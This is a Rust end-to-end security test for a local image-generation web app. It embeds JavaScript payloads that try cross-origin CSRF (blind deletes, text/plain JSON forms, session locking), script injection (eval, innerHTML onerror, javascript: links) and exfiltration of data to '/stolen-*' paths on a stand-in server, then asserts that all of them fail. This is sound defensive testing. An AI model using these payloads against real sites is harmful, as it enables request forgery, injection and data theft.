//! A page of somebody else in the same browser, and code that gets into ours.

use crate::browser::network::{contacts, strangers};
use crate::browser::studio::Studio;
use crate::http::Request;
use serde_json::json;
use std::io::{BufRead as _, BufReader, Write as _};
use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::sync::{Arc, Mutex};

/// Another server of this machine, which answers everything with an empty page that anybody may read.
struct Stranger {
    port: u16,
    /// The first line of each request.
    heard: Arc<Mutex<Vec<String>>>,
}

impl Stranger {
    fn listen() -> Stranger {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("a port is free");
        let port = listener.local_addr().expect("it is bound").port();
        let heard = Arc::new(Mutex::new(Vec::new()));
        let shared = Arc::clone(&heard);
        // It lives as long as the process of the test; a browser may hold connections that say nothing.
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let heard = Arc::clone(&shared);
                std::thread::spawn(move || answer(stream, &heard));
            }
        });
        Stranger { port, heard }
    }

    fn origin(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }

    fn heard(&self) -> Vec<String> {
        self.heard.lock().expect("no answer panics").clone()
    }
}

fn answer(stream: TcpStream, heard: &Mutex<Vec<String>>) -> Option<()> {
    let mut reader = BufReader::new(stream);
    let mut first = String::new();
    reader.read_line(&mut first).ok().filter(|count| *count > 0)?;
    heard.lock().ok()?.push(first.trim().to_owned());
    let mut line = String::new();
    while reader.read_line(&mut line).ok()? > 2 {
        line.clear();
    }
    let page = "<!doctype html><title>elsewhere</title><body></body>";
    let length = page.len();
    write!(
        reader.into_inner(),
        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: {length}\r\n\
         Connection: close\r\n\r\n{page}"
    )
    .ok()
}

/// What a page of another origin can try without leaving itself. Each attempt ends in what it won, or `refused`.
const ATTACKS: &str = r#"
    const [base, token] = arguments;
    const outcomes = {};
    const attempt = async (name, act) => {
        try { outcomes[name] = String(await act()); } catch { outcomes[name] = "refused"; }
    };
    const loads = (tag, properties) => new Promise((won, lost) => {
        const element = Object.assign(document.createElement(tag), properties);
        element.onload = () => won("loaded");
        element.onerror = lost;
        document.body.append(element);
    });
    const all = JSON.stringify({ all: true, confirm: 1 });
    const job = JSON.stringify({ prompt: "x", width: 16, height: 16, steps: 1 });
    const bearer = { Authorization: `Bearer ${token}` };
    const plain = { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" } };
    const opaque = async (path, options) => (await fetch(base + path, options)).type;
    await attempt("read health", async () => (await fetch(`${base}/healthz`)).text());
    await attempt("read images", async () => (await fetch(`${base}/api/v1/images`, { headers: bearer })).text());
    await attempt("blind read", () => opaque("/api/v1/status", { mode: "no-cors" }));
    await attempt("blind delete", () => opaque("/api/v1/images:delete", { ...plain, body: all }));
    await attempt("blind job", () => opaque("/api/v1/jobs", { ...plain, body: job }));
    await attempt("json job", async () => (await fetch(`${base}/api/v1/jobs`, {
        method: "POST", headers: { ...bearer, "Content-Type": "application/json" }, body: job })).text());
    await attempt("lock", async () => (await fetch(`${base}/api/v1/session`, {
        method: "DELETE", headers: bearer })).status);
    await attempt("beacon", () => navigator.sendBeacon(`${base}/api/v1/jobs`, job) && "sent");
    await attempt("script", () => loads("script", { src: `${base}/main.js` }));
    await attempt("image", () => loads("img", { src: `${base}/icon.svg` }));
    await attempt("events", () => new Promise((won, lost) => {
        const events = new EventSource(`${base}/api/v1/events`);
        events.onopen = () => won("open");
        events.onerror = lost;
    }));
    await attempt("socket", () => new Promise((won, lost) => {
        const socket = new WebSocket(`${base.replace("http", "ws")}/api/v1/events`);
        socket.onopen = () => won("open");
        socket.onerror = lost;
    }));
    return outcomes;
"#;

/// A form that carries JSON in plain text.
const FORM: &str = r#"
    const form = Object.assign(document.createElement("form"),
        { method: "POST", action: `${arguments[0]}/api/v1/jobs`, enctype: "text/plain" });
    const input = Object.assign(document.createElement("input"),
        { name: '{"prompt":"x","width":16,"height":16,"steps":1,"negative_prompt":"', value: '"}' });
    form.append(input);
    document.body.append(form);
    form.submit();
"#;

/// What code in our own page can try: to run more code, and to send something away.
const INSIDE: &str = r#"
    const [stranger] = arguments;
    window.ran = [];
    const attempt = (act) => { try { act(); } catch { /* That is what the policy does. */ } };
    // What the driver runs directly may evaluate code; what a timer runs may not.
    const later = (act) => new Promise((done) => setTimeout(() => { attempt(act); done(); }));
    const make = (tag, properties) => {
        const element = Object.assign(document.createElement(tag), properties);
        document.body.append(element);
        return element;
    };
    await later(() => { make("script").append("window.ran.push('inline script')"); });
    await later(() => { make("script", { textContent: "window.ran.push('script text')" }); });
    await later(() => { make("script", { src: `${stranger}/stolen-script` }); });
    await later(() => { eval("window.ran.push('eval')"); });
    await later(() => { new Function("window.ran.push('function')")(); });
    await later(() => { setTimeout("window.ran.push('timer')"); });
    await later(() => { make("div").innerHTML = "<img src='x' onerror='window.ran.push(`html`)'>"; });
    await later(() => { document.body.insertAdjacentHTML("beforeend", "<b id='planted'></b>"); });
    await later(() => { const b = make("b"); b.setAttribute("onclick", "window.ran.push('handler')"); b.click(); });
    await later(() => { make("a", { href: "javascript:window.ran.push('address')" }).click(); });
    await later(() => { make("iframe", { srcdoc: "<script>parent.ran.push('frame')</script>" }); });
    await later(() => { new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))).onmessage = () =>
        window.ran.push("worker"); });
    const styled = make("p", { textContent: "x" });
    await later(() => { styled.setAttribute("style", "color: rgb(1, 2, 3)"); });
    await later(() => { make("style", { textContent: "p { color: rgb(1, 2, 3) }" }); });

    await later(() => { fetch(`${stranger}/stolen-fetch`, { mode: "no-cors" }).catch(() => {}); });
    await later(() => { navigator.sendBeacon(`${stranger}/stolen-beacon`, "x"); });
    await later(() => { new Image().src = `${stranger}/stolen-image`; });
    await later(() => { new WebSocket(`${stranger.replace("http", "ws")}/stolen-socket`); });
    await later(() => { new EventSource(`${stranger}/stolen-events`); });
    await later(() => { make("link", { rel: "stylesheet", href: `${stranger}/stolen-style` }); });
    await later(() => { make("link", { rel: "prefetch", href: `${stranger}/stolen-prefetch` }); });
    await later(() => { make("iframe", { src: `${stranger}/stolen-frame` }); });
    await later(() => { import(`${stranger}/stolen-module`).catch(() => {}); });
    await later(() => { make("form", { method: "POST", action: `${stranger}/stolen-form` }).submit(); });
    await new Promise((done) => setTimeout(done, 500));
    if (document.getElementById("planted")) window.ran.push("markup");
    if (getComputedStyle(styled).color === "rgb(1, 2, 3)") window.ran.push("style");
    return window.ran;
"#;

#[test]
fn a_page_of_somebody_else_gets_nothing() {
    let studio = Studio::ready("hostile");
    let browser = &studio.browser;
    let (base, stranger) = (studio.served.origin(), Stranger::listen());
    studio.make_small(1);
    let ours = browser.tab();
    let token = browser.script("return sessionStorage.getItem('token')", &[]);
    let token = token.as_str().expect("there is a session");
    let ask = |request: Request| studio.served.ask(&request.token(token)).is(200).json();
    let state = || {
        let (images, jobs) = (ask(Request::get("/api/v1/images")), ask(Request::get("/api/v1/jobs")));
        (images["total"].clone(), jobs["jobs"].as_array().map(Vec::len))
    };
    let before = state();
    assert_eq!(before, (json!(1), Some(1)));

    browser.new_tab();
    browser.goto(&stranger.origin());
    assert_eq!(browser.title(), "elsewhere");
    // It even knows the token.
    let outcomes = browser.script_async(ATTACKS, &[&base, token]);
    let won = outcomes.as_object().expect("outcomes have names").iter();
    // Whether a blind request was answered cannot be seen by the page: what counts is that nothing happened.
    let won: Vec<_> =
        won.filter(|(_, won)| !["refused", "opaque", "sent"].iter().any(|no| *won == no)).collect();
    assert!(won.is_empty() && outcomes.as_object().map(|all| all.len()) == Some(12), "{outcomes:#}");
    browser.script(
        "document.body.append(Object.assign(document.createElement('iframe'), {src: arguments[0]}))",
        &[&base],
    );
    browser.frame(true);
    std::thread::sleep(std::time::Duration::from_millis(500));
    assert_eq!(browser.count("#prompt, #passphrase, #badge"), 0, "the studio is in a frame");
    browser.frame(false);
    for way in [FORM, "location.href = arguments[0]"] {
        browser.goto(&stranger.origin());
        browser.script(way, &[&base]);
        browser
            .until("go on", crate::browser::driver::SOON, || browser.url().starts_with(&base).then_some(()));
        assert_eq!(browser.count("#prompt, #passphrase, #badge"), 0, "{way}");
    }
    assert_eq!(state(), before, "a stranger changed something");
    let status = studio.served.ask(&Request::get("/api/v1/status")).is(200).json();
    assert_eq!(status["vault"], "unlocked", "a stranger locked it");

    // Code that got into our page runs no other code, and sends nothing away.
    browser.switch(&ours);
    let ran = browser.script_async(INSIDE, &[&stranger.origin()]);
    assert_eq!(ran, json!([]), "this ran in our page");
    let heard = stranger.heard();
    assert!(heard.iter().any(|line| line.starts_with("GET / ")), "the stranger hears nothing: {heard:?}");
    assert!(!heard.iter().any(|line| line.contains("stolen")), "{heard:?}");

    // What finds strangers in the other tests finds this one.
    let found = strangers(&browser.performance(), &base);
    assert!(found.contains(&format!("{}/", stranger.origin())), "{found:?}");
    let Studio { browser, served, home } = studio;
    browser.quit();
    let contacts = contacts(&home.path().join("net-log"));
    assert!(contacts.contains(&format!("127.0.0.1:{}", stranger.port)), "{contacts:?}");
    served.stop().ends(0, &[]);
    home.is_whole(1);
}
